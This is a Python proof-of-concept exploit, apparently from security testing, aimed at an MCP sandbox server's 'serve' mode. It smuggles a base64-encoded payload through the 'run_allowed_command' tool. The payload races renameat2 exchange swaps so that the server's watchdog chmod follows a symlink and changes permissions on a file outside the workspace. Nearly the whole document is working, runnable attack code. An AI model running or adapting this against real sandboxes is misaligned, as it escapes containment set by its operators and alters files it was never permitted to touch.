# non-root serve: the layer watchdog (wslayer Size) chmods a mode-0 directory of the running call's layer to 0700 with
# fchmodat(..., 0), which follows a symlink: the call swaps that directory with a symlink to a file outside the workspace.
import sys, json, subprocess, os, time
U="/tmp/atk33x/u1000"
os.chmod(U+"/outside/f", 0o644)
print("before:", oct(os.stat(U+"/outside/f").st_mode))
code = r'''
import os, ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir("d"); os.symlink("/tmp/atk33x/u1000/outside/f", "s"); os.chmod("d", 0)
AT=-100; EXCH=2
t=time.time(); n=0; fails=0
cur=b"d"   # the name the directory is at now
while time.time()-t < float(os.environ.get("DUR","25")):
    if n % 64 == 0: os.chmod(cur, 0)   # the watchdog chmods it to 0700 each time it loses: close it again
    if libc.syscall(316, AT, b"d", AT, b"s", EXCH) != 0: fails+=1
    else: cur = b"s" if cur == b"d" else b"d"
    n+=1
print("swaps", n, "fails", fails)
'''
import base64
b=base64.b64encode(code.encode()).decode()
p=subprocess.Popen(["setpriv","--reuid=1000","--regid=1000","--clear-groups","/tmp/atk33/mcpsandbox","serve","--policy",U+"/home/pol.toml"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=open("/tmp/atk33x/nonroot.log","wb"),env={"HOME":U+"/home","PATH":"/usr/bin:/bin"})
def send(o): p.stdin.write((json.dumps(o)+"\n").encode()); p.stdin.flush()
send({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}}); p.stdout.readline()
send({"jsonrpc":"2.0","method":"notifications/initialized"})
send({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"run_allowed_command","arguments":{"command":"python3.11","args":["-c","import base64;exec(base64.b64decode('%s'))"%b]}}})
r=json.loads(p.stdout.readline()); print(json.dumps(r.get("result",{}).get("structuredContent", r))[:500])
p.stdin.close(); p.wait()
print("after:", oct(os.stat(U+"/outside/f").st_mode))
